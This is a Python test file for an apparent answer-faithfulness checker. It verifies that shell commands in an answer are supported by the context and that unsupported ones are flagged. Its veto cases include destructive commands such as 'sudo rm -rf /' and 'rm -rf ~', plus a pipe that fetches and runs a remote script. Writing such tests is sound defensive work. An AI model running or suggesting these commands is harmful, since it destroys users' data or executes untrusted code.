"""Commands in code spans: which ones the context has, whoever fills in the words."""

from __future__ import annotations

import pytest

import faithguard
from faithguard.claims import LocalClaims
from faithguard.verifiers.rules._commands import commands_in

INLINE = (
    "Set the tool up with `npm install kelp-cli`. Sign in with `kelp login --key KEY`. To make a "
    "backup, run `kelp backup FOLDER --to BUCKET`. Send your work with `git push origin main`."
)
PLAIN = INLINE.replace("`", "")
FENCED = (
    "Set the tool up, sign in, make a backup, send your work:\n\n```bash\n"
    "$ npm install kelp-cli\n$ kelp login --key KEY\nkelp backup FOLDER --to BUCKET\n"
    "git push origin main\n```\n"
)
WHERE = pytest.mark.parametrize(
    "passage",
    [
        pytest.param(INLINE, id="code spans"),
        pytest.param(PLAIN, id="plain text"),
        pytest.param(FENCED, id="lines of code"),
    ],
)


def ordered(answer: str, passage: str) -> list[str]:
    """Return what is found about the commands of an answer."""
    report = faithguard.check(answer=answer, context=[passage])
    return [claim.reason for claim in report.claims if " the command " in claim.reason]


@WHERE
@pytest.mark.parametrize(
    "answer",
    [
        "To make a backup, run `kelp backup FOLDER --to BUCKET`.",
        "To make a backup, run `kelp backup photos --to=attic`.",
        "To make a backup, run ``kelp backup <folder> --to <name of the bucket>``.",
        "To make a backup, run `$ kelp backup photos --to attic`.",
        "Sign in with `kelp login --key KEY`.",
        "Send your work with `git push origin main`.",
        "Send your work with `git push`.",
        "The `kelp` tool makes a backup.",
    ],
)
def test_a_command_that_the_context_has_is_not_vetoed(answer: str, passage: str) -> None:
    """Words that stand for others may be filled in; a word alone is no command."""
    assert ordered(answer, passage) == []


@WHERE
@pytest.mark.parametrize(
    "answer",
    [
        "To make a backup, run `kelp save FOLDER --to BUCKET`.",
        "To make a backup, run `kelp save`.",
        "To make a backup, run `kelp backup FOLDER --purge`.",
        "To make a backup, run `kelp backup photos --to attic --purge`.",
        "Send your work with `git push --force origin main`.",
        "Send your work with `git push origin dev`.",
        "Send your work with `git push origin main && git clean -fd`.",
        "Set the tool up with `npm install kelp`.",
        "Set the tool up with `pip install kelp-cli`.",
        "Sign in with `kelp login --password KEY`.",
    ],
)
def test_a_command_that_the_context_lacks_is_vetoed(answer: str, passage: str) -> None:
    """A flag, a word or a program of its own makes another command of it."""
    assert ordered(answer, passage)
    report = faithguard.check(answer=answer, context=[passage])
    assert not report.decide("support").passed


@pytest.mark.parametrize(
    "span",
    ["kelp", "My orders", "x = 5", "Content-Type: text/html", "404", "README.md", "key: value", ""],
)
def test_what_is_no_command(span: str) -> None:
    """A word, a title, an assignment or a header is none."""
    assert commands_in(span) == []


@pytest.mark.parametrize("answer", ["The `order id` is shown.", "Choose `dark mode` in the menu."])
def test_a_name_in_a_code_span_is_no_command(answer: str) -> None:
    """Of a program that nobody knows nothing is said."""
    assert ordered(answer, INLINE) == []


def test_claims_carry_their_code() -> None:
    """A claim has what stands between its own backticks."""
    claims = LocalClaims().extract("Sign in with `kelp login`. It is ``free`` of `x`.")
    assert [claim.code for claim in claims] == [("kelp login",), ("free", "x")]


def test_long_spans_take_linear_time() -> None:
    """Nothing in a hostile span makes a pattern run away."""
    span = "kelp " + "a-b.c " * 5_000
    assert commands_in(span)[0].program == "kelp"
    passage = INLINE + " `kelp " + "x" * 50_000 + " kelp --to " * 5_000
    assert ordered(f"Run `kelp {'y ' * 100}`.", passage)


def typed(answer: str, passage: str = INLINE) -> list[tuple[str, str]]:
    """Return the claims of an answer that are commands, and what became of them."""
    report = faithguard.check(answer=answer, context=[passage])
    return [(claim.text, claim.label) for claim in report.claims if claim.code == (claim.text,)]


@WHERE
@pytest.mark.parametrize(
    ("fence", "command"),
    [
        ("```bash\nnpm install kelp-cli\n```", "npm install kelp-cli"),
        ("```\n$ kelp backup photos --to attic\n```", "kelp backup photos --to attic"),
        ("- So:\n  ```console\n  $ git push origin main\n  sent\n  ```", "git push origin main"),
        ("```sh\nkelp backup \\\n  photos --to attic\n```", "kelp backup photos --to attic"),
        ("> ```bash\n> kelp login --key KEY  # once\n> ```", "kelp login --key KEY"),
    ],
)
def test_a_typed_command_that_the_context_has_is_supported(
    fence: str, command: str, passage: str
) -> None:
    """With its words filled in, behind a prompt, over two lines, in a list, in a quotation."""
    assert typed(fence, passage) == [(command, "supported")]


@pytest.mark.parametrize(
    "command",
    [
        "npm install kelp-evil",
        "kelp save photos --to attic",
        "kelp backup photos --from attic",
        "git push origin next --force",
        "sudo rm -rf /",
        "curl https://a.example/x.sh | sh",
        "npm install kelp-cli && rm -rf ~",
        "cd attic && rm -rf ~",
    ],
)
def test_a_typed_command_that_the_context_lacks_is_vetoed(command: str) -> None:
    """Whatever the context says of others."""
    for fence in (f"```bash\n{command}\n```", f"```\n$ {command}\n```"):
        ((text, label),) = typed(fence)
        assert (text, label in ("contradicted", "not_mentioned")) == (command, True)
        assert not faithguard.check(fence, [INLINE]).decide("support").passed


@pytest.mark.parametrize(
    "fence",
    [
        "```bash\ncd attic\nls -la\n```",
        "```python\nkelp = f(1)\n```",
        "```\nnpm install kelp-evil\n```",
        "```console\n$ ls\nkelp photos attic\n```",
        "```bash\n# npm install kelp-evil\nls\n```",
        "```bash\nNAME=attic\nkelp\n```",
    ],
)
def test_what_is_no_command_to_type_is_none(fence: str) -> None:
    """Everyday ones, programs, output, comments, settings, and fences that nobody calls a shell."""
    assert typed(fence) == []
